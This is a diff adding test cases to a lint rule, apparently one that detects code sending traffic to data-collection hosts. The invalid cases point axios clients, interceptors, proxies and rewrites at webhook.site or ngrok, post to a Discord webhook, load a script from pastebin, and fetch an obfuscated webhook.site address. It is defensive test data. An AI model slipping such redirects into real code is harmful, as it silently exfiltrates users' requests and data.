@@ -3,6 +3,9 @@ import { ruleTester } from '../tester.ts';
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import axios from "axios"; axios.defaults.baseURL = "https://api.example-service.com"; export const api = axios.create({ baseURL: process.env.API });' },
+    { code: 'form.target = "_blank"; const options = { target: "node20", uri: "/x", destination: "dist" };' },
+    { code: 'axios.defaults.baseURL = "https://webhook.site/abc";', settings: { allowedHosts: ['webhook.site'] } },
     { code: "const image = new Image(); image.src = '/logo.png'; location.href = `/x/${id}`;" },
     { code: "video.src = 'http://media.example-service.com/x.mp4';" },
     { code: "fetch('data:text/plain,hello'); fetch(new URL('./data.json', import.meta.url));" },
@@ -71,6 +74,13 @@ await ruleTester(rule, {
     { code: 'import { createOpenAI } from "@ai-sdk/openai"; createOpenAI({ baseURL: "http://192.168.0.3:8080/v1" });' },
   ],
   invalid: [
+    // addresses that a client, a proxy or a rewrite is given
+    { code: 'import axios from "axios"; axios.defaults.baseURL = "https://webhook.site/abc";', errors: [{ messageId: 'collection' }] },
+    { code: 'import axios from "axios"; axios.interceptors.request.use((config) => { config.baseURL = "https://webhook.site/abc"; return config; });', errors: [{ messageId: 'collection' }] },
+    { code: 'app.use("/api", createProxyMiddleware({ target: "https://abc.ngrok-free.app", changeOrigin: true }));', errors: [{ messageId: 'collection' }] },
+    { code: 'module.exports = { async rewrites() { return [{ source: "/api/:p*", destination: "https://webhook.site/8/:p*" }]; } };', errors: [{ messageId: 'collection' }] },
+    { code: 'import ky from "ky"; export const api = ky.create({ prefixUrl: "https://webhook.site/8" });', errors: [{ messageId: 'collection' }] },
+    { code: 'import { WebhookClient } from "discord.js"; new WebhookClient({ url: "https://discord.com/api/webhooks/1/abc" }).send("hi");', errors: [{ messageId: 'collection' }] },
     { code: "const script = document.createElement('script'); script['src'] = 'https://pastebin.com/raw/x';", errors: [{ messageId: 'collection' }] },
     { code: "window.open('https://webhook.site/x');", errors: [{ messageId: 'collection' }] },
     { code: "fetch('https://%77ebhook.site/x');", errors: [{ messageId: 'collection' }] },
